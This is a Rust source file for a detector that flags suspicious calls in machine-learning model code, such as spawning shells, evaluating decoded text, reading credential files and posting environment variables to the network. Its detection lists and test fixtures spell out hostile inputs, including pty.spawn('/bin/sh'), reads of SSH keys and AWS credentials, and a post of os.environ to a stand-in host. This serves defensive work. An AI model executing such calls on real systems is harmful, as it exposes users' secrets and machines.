//! What a call in the code of a model does to the machine.

mod names;

use stance_core::Severity;
use stance_core::fact::{CarriedCode, Embedded};

pub(super) use names::{DECODERS, SECRETS};
use names::{HARMLESS, HIDDEN, HUB, NETWORK, PROGRAMS, SOCKETS, STARTUP};

/// Something that code of a model has no reason to do.
pub struct Deed<'a> {
    /// The call.
    pub call: &'a Embedded,
    /// In words, after "the code".
    pub what: String,
    /// How bad it is.
    pub severity: Severity,
    /// Whether it takes knowledge of a package to be sure.
    pub unsure: bool,
}

impl Deed<'_> {
    /// When it happens, in words.
    pub fn moment(&self) -> String {
        match moment(self.call) {
            "import" => "when it is imported".to_owned(),
            function => format!("in `{function}`"),
        }
    }
}

fn moment(call: &Embedded) -> &str {
    call.name.split(' ').next().unwrap_or_default()
}

fn is_one_of(callee: &str, all: &[&str]) -> bool {
    all.iter().any(|known| match known.strip_suffix('.') {
        Some(module) => callee
            .strip_prefix(module)
            .is_some_and(|rest| rest.starts_with(['.', '('])),
        None => callee.starts_with(known),
    })
}

/// What a call does, when that is nothing that a model needs.
pub fn of(call: &Embedded) -> Option<Deed<'_>> {
    let import = moment(call) == "import";
    let (callee, arguments) = split(&call.detail);
    let deed = |what: String, severity| {
        Some(Deed {
            call,
            what,
            severity,
            unsure: false,
        })
    };
    let worse = if import {
        Severity::Critical
    } else {
        Severity::High
    };
    if call.name.ends_with(" of a foreign package") {
        return Some(Deed {
            call,
            what: format!("calls `{callee}` of a package that models are not made with"),
            severity: Severity::High,
            unsure: true,
        });
    }
    if is_one_of(callee, HARMLESS) {
        return None;
    }
    if is_one_of(callee, PROGRAMS) {
        return deed(format!("runs a program with `{callee}`"), worse);
    }
    if let Some(function) = handed_over(arguments) {
        return deed(
            format!("hands `{function}` over to `{callee}`, which calls it"),
            worse,
        );
    }
    if hidden(callee) {
        return deed(
            format!("takes `{callee}` from where a search does not find it"),
            worse,
        );
    }
    if matches!(callee, "exec" | "eval" | "compile") {
        return evaluates(callee, arguments, import)
            .and_then(|(what, severity)| deed(what, severity));
    }
    if callee.starts_with("marshal.load")
        || matches!(callee, "types.CodeType" | "types.FunctionType")
    {
        return deed(
            format!("makes functions of byte code with `{callee}`"),
            worse,
        );
    }
    if matches!(callee, "pickle.loads" | "dill.loads" | "cloudpickle.loads")
        && DECODERS.iter().any(|decoder| arguments.contains(decoder))
    {
        return deed(
            format!("loads a pickle that is decoded or fetched with `{callee}`"),
            worse,
        );
    }
    // Honest code imports these by a statement.
    if matches!(callee, "__import__" | "importlib.import_module")
        && ["os", "posix", "subprocess", "pty", "socket", "builtins"]
            .iter()
            .any(|module| arguments.starts_with(&format!("(\"{module}\"")))
    {
        return deed(
            format!("imports {arguments} where a search does not find it, with `{callee}`"),
            worse,
        );
    }
    if is_one_of(callee, SOCKETS) {
        return deed(format!("opens a connection with `{callee}`"), worse);
    }
    if callee.starts_with("ctypes.")
        && (arguments.contains("\"./")
            || arguments.contains("\"../")
            || arguments.contains("libc\"")
            || arguments.contains("libc.")
            || arguments.contains("libc-")
            || arguments.contains("None")
            || arguments.contains("__file__")
            || arguments.contains("/tmp/"))
    {
        return deed(
            format!("loads a library of the system or of the model with `{callee}`"),
            worse,
        );
    }
    if is_one_of(callee, NETWORK) {
        let sends_secrets = arguments.contains("os.environ") || arguments.contains("get_token");
        if sends_secrets {
            return deed(
                format!("sends variables of the environment with `{callee}`"),
                Severity::Critical,
            );
        }
        return import
            .then(|| {
                deed(
                    format!("talks to the network with `{callee}`"),
                    Severity::High,
                )
            })
            .flatten();
    }
    if callee == "torch.hub.load" {
        let owner = arguments
            .trim_start_matches(['(', '"'])
            .split('/')
            .next()
            .unwrap_or_default();
        let from_here = arguments.contains("source=\"local\"");
        return (arguments.starts_with("(\"") && !HUB.contains(&owner) && !from_here).then(|| {
            Deed {
                call,
                what: format!(
                    "loads code of `{owner}` from another repository with `torch.hub.load`"
                ),
                severity: Severity::High,
                unsure: true,
            }
        });
    }
    let deletes = matches!(
        callee,
        "shutil.rmtree" | "os.remove" | "os.unlink" | "os.removedirs" | "os.rmdir"
    );
    if deletes && (import || arguments.contains("\"/") || arguments.contains("\"~")) {
        return deed(format!("deletes files with `{callee}`"), Severity::High);
    }
    file(callee, &arguments.to_lowercase()).and_then(|(what, severity)| deed(what, severity))
}

/// A function that runs programs or code among what a call is given.
fn handed_over(arguments: &str) -> Option<&str> {
    const FUNCTIONS: &[&str] = &[
        // Not `eval`: tables of texts are read with `apply(eval)`.
        "builtins.exec",
        "exec",
        "os.popen",
        "os.startfile",
        "os.system",
        "posix.popen",
        "posix.system",
        "pty.spawn",
        "subprocess.Popen",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "subprocess.run",
    ];
    CarriedCode::outside_texts(arguments)
        .into_iter()
        .flat_map(|outside| outside.split(['(', ')', ',', ' ', '[', ']']))
        // Behind a keyword stands what is given by it.
        .filter_map(|given| given.rsplit('=').next())
        .find(|name| FUNCTIONS.contains(name))
}

/// The callee and what stands between its parentheses.
pub(super) fn split(detail: &str) -> (&str, &str) {
    // A callee may hold `()` of its own, which are empty; the ones that are not, or end it all, are
    // those of the arguments.
    let open = detail.match_indices('(').map(|(at, _)| at).find(|at| {
        let rest = detail.get(*at..).unwrap_or_default();
        !rest.starts_with("()") || rest.len() == 2
    });
    let at = open.unwrap_or(detail.len());
    let callee = detail
        .get(..at)
        .unwrap_or(detail)
        .trim_start_matches("builtins.");
    (callee, detail.get(at..).unwrap_or_default())
}

fn hidden(callee: &str) -> bool {
    let last = callee.rsplit('.').next().unwrap_or_default();
    let aside = callee.contains("sys.modules.[]")
        || ["os", "posix", "nt", "subprocess", "builtins"]
            .iter()
            .any(|module| callee.starts_with(&format!("{module}.__dict__.")));
    callee.contains("__builtins__") || (aside && HIDDEN.contains(&last))
}

/// Evaluation of text: decoded or fetched, or with a program in it.
fn evaluates(callee: &str, arguments: &str, import: bool) -> Option<(String, Severity)> {
    let decoded = DECODERS.iter().any(|decoder| arguments.contains(decoder));
    if decoded {
        return Some((
            format!("evaluates text that is decoded or fetched with `{callee}`"),
            Severity::Critical,
        ));
    }
    let literal = arguments.starts_with("(\"");
    let program = [
        "import ",
        "__",
        "os.",
        "subprocess",
        "socket",
        "open(",
        "exec(",
        "eval(",
    ]
    .iter()
    .any(|word| arguments.contains(word));
    if literal && program {
        let severity = if import {
            Severity::Critical
        } else {
            Severity::High
        };
        return Some((
            format!("evaluates a program in a text with `{callee}`"),
            severity,
        ));
    }
    // What is not known may be anything; `compile` alone runs nothing.
    (import && !literal && callee != "compile")
        .then(|| (format!("evaluates text with `{callee}`"), Severity::High))
}

fn file(callee: &str, arguments: &str) -> Option<(String, Severity)> {
    const OPENERS: &[&str] = &[
        "open",
        "io.open",
        "os.open",
        "os.chmod",
        "os.symlink",
        "shutil.copy",
        "shutil.copyfile",
        "shutil.move",
    ];
    let last = callee.rsplit('.').next().unwrap_or_default();
    let methods = [
        "Path",
        "join",
        "joinpath",
        "open",
        "read_text",
        "read_bytes",
        "write_text",
        "write_bytes",
        "expanduser",
    ];
    if !OPENERS.contains(&callee) && !methods.contains(&last) {
        return None;
    }
    let place = arguments.replace("\\\\", "/");
    if let Some(path) = STARTUP.iter().find(|path| place.contains(**path)) {
        return Some((
            format!("opens `{path}`, which runs by itself later"),
            Severity::Critical,
        ));
    }
    if let Some(path) = SECRETS.iter().find(|path| place.contains(**path)) {
        return Some((
            format!("opens `{path}`, which holds secrets"),
            Severity::High,
        ));
    }
    None
}

/// All variables of the environment, or the token of the hub, beside a call that sends.
pub fn theft<'a>(calls: &[&'a Embedded]) -> Option<Deed<'a>> {
    let takes = |call: &&&Embedded| {
        let (callee, _) = split(&call.detail);
        matches!(
            callee,
            "huggingface_hub.get_token"
                | "huggingface_hub.HfFolder.get_token"
                | "os.environ.copy"
                | "os.environ.items"
        ) || call.detail.contains("(os.environ)")
            || callee.starts_with("keyring.")
            || callee.starts_with("getpass.")
    };
    let sends = |call: &&&Embedded| {
        let (callee, _) = split(&call.detail);
        [
            "requests.post",
            "requests.put",
            "httpx.post",
            "urllib.request.urlopen",
            "urllib.request.Request",
            "aiohttp.",
        ]
        .iter()
        .any(|known| callee.starts_with(known))
            || callee.starts_with("http.client.")
    };
    let taken = calls.iter().find(takes)?;
    calls.iter().find(sends)?;
    Some(Deed {
        call: taken,
        what: "takes credentials of the environment and sends data".to_owned(),
        severity: Severity::High,
        unsure: true,
    })
}

#[cfg(test)]
mod tests {
    use stance_core::Evidence;
    use stance_core::fact::EmbeddedKind;

    use super::*;

    fn call(when: &str, detail: &str) -> Embedded {
        Embedded {
            kind: EmbeddedKind::ModelCode,
            name: when.to_owned(),
            detail: detail.to_owned(),
            evidence: Evidence::file("modeling_x.py"),
        }
    }

    fn severity(when: &str, detail: &str) -> Option<Severity> {
        of(&call(when, detail)).map(|deed| deed.severity)
    }

    #[test]
    fn what_acts_on_the_machine_is_worse_the_sooner_it_runs() {
        for detail in [
            "os.system(\"id\")",
            "subprocess.Popen([\"sh\", \"-c\", ?])",
            "pty.spawn(\"/bin/sh\")",
            "posix.system(\"id\")",
            "pip.main([\"install\", \"x\"])",
            "socket.socket().connect(?)",
            "exec(base64.b64decode())",
            "exec(\"import os\")",
            "marshal.loads(?)",
            "__builtins__.[](\"1\")",
            "sys.modules.[].system(\"id\")",
            "os.__dict__.[](\"id\")",
            "atexit.register(os.system, \"id\")",
            "threading.Thread(target=subprocess.run, args=[\"id\"])",
            "ctypes.CDLL(os.path.join(os.path.dirname(__file__), \"libfast.so\"))",
            "open(\"a\" (pathlib.Path.home()/\".bashrc\").open)",
        ] {
            assert_eq!(
                severity("import", detail),
                Some(Severity::Critical),
                "{detail}"
            );
            assert!(severity("forward", detail).is_some(), "{detail}");
        }
        for (when, detail) in [
            ("import", "requests.get(\"http://x.example/a\")"),
            ("import", "exec(?)"),
            ("import", "shutil.rmtree(?)"),
            ("__init__", "open(\"/root/.ssh/id_rsa\")"),
            (
                "__init__",
                "pathlib.Path().read_text(\"~/.aws/credentials\")",
            ),
            (
                "__init__",
                "requests.post(\"http://x.example\", json=os.environ)",
            ),
            ("__init__", "open(\"/root/.bashrc\", \"a\")"),
            ("__init__", "ctypes.CDLL(\"libc.so.6\")"),
            (
                "__init__",
                "read_text( (Path.home() / '.ssh' / 'id_rsa').read_text)",
            ),
            ("__init__", "os.path.join(?, \".ssh\", \"x\")"),
            (
                "__init__",
                "torch.hub.load(\"someone/repo\", \"x\", trust_repo=True)",
            ),
        ] {
            assert!(severity(when, detail) >= Some(Severity::High), "{detail}");
        }
    }

    #[test]
    fn what_models_do_every_day_is_nothing() {
        for (when, detail) in [
            ("__init__", "open(?, encoding=\"utf-8\")"),
            ("load", "requests.get(?, stream=True)"),
            ("forward", "eval(?)"),
            ("import", "compile(\"a\", \"b\", \"c\")"),
            ("import", "eval(\"1 + 1\")"),
            (
                "_tokenize",
                "sys.modules.[].word_tokenize(XLMTokenizer().moses_pipeline())",
            ),
            ("load", "sys.modules.get(PreTrainedModel.__module__)"),
            ("import", "socket.gethostname()"),
            ("save", "os.remove(?)"),
            ("import", "ctypes.c_int()"),
            ("import", "importlib.import_module(\"flash_attn\")"),
            (
                "__init__",
                "torch.hub.load(\"snakers4/silero-vad\", \"silero_vad\")",
            ),
            ("__init__", "torch.hub.load(?, \"x\")"),
            ("__init__", "pathlib.Path(\".cache\")"),
            ("import", "atexit.register(close, \"os.system\")"),
            ("import", "ctypes.CDLL(\"libcudart.so\")"),
            ("__init__", "build(eval=True, exec=?)"),
            ("load", "open(path, \"rb\" Image.open)"),
        ] {
            assert_eq!(severity(when, detail), None, "{detail}");
        }
    }

    #[test]
    fn credentials_beside_a_call_that_sends_are_theft() {
        let token = call("__init__", "huggingface_hub.get_token()");
        let send = call("__init__", "requests.post(\"http://x.example\", data=?)");
        assert!(theft(&[&token, &send]).is_some());
        assert!(theft(&[&token]).is_none());
        assert!(theft(&[&send]).is_none());
    }
}
